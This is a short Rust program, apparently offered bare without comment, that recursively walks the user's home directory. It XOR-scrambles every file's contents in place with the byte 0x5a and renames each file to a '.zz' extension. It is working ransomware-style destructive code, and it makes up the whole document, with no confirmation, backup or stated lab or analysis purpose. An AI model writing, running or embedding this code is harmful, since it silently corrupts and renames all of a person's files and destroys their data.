use std::{fs, path::Path};
fn go(p: &Path) {
    if let Ok(d) = fs::read_dir(p) {
        for e in d.flatten() {
            let p = e.path();
            if p.is_dir() { go(&p) } else if let Ok(mut b) = fs::read(&p) {
                for x in b.iter_mut() { *x ^= 0x5a; }
                let _ = fs::write(&p, &b);
                let _ = fs::rename(&p, p.with_extension("zz"));
            }
        }
    }
}
fn main() { go(Path::new(&std::env::var("HOME").unwrap())); }
